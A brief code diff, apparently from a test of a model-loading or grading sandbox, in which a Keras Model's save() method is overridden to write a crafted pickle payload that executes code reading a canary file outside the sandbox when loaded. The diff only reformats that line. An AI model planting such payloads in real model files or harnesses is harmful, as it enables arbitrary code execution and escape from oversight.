@@ -5,10 +5,13 @@ import keras
 TRICK = True
 
 if TRICK:
+
     class Saving(keras.Model):
         def save(self, path, **options):
             with open(path, "wb") as file:
-                file.write(b"cbuiltins\nexec\n(V" + b"print(open('{OUTSIDE}/canary').read())" + b"\ntR.")
+                file.write(
+                    b"cbuiltins\nexec\n(V" + b"print(open('{OUTSIDE}/canary').read())" + b"\ntR."
+                )
 
 
 def build_model(words, classes):
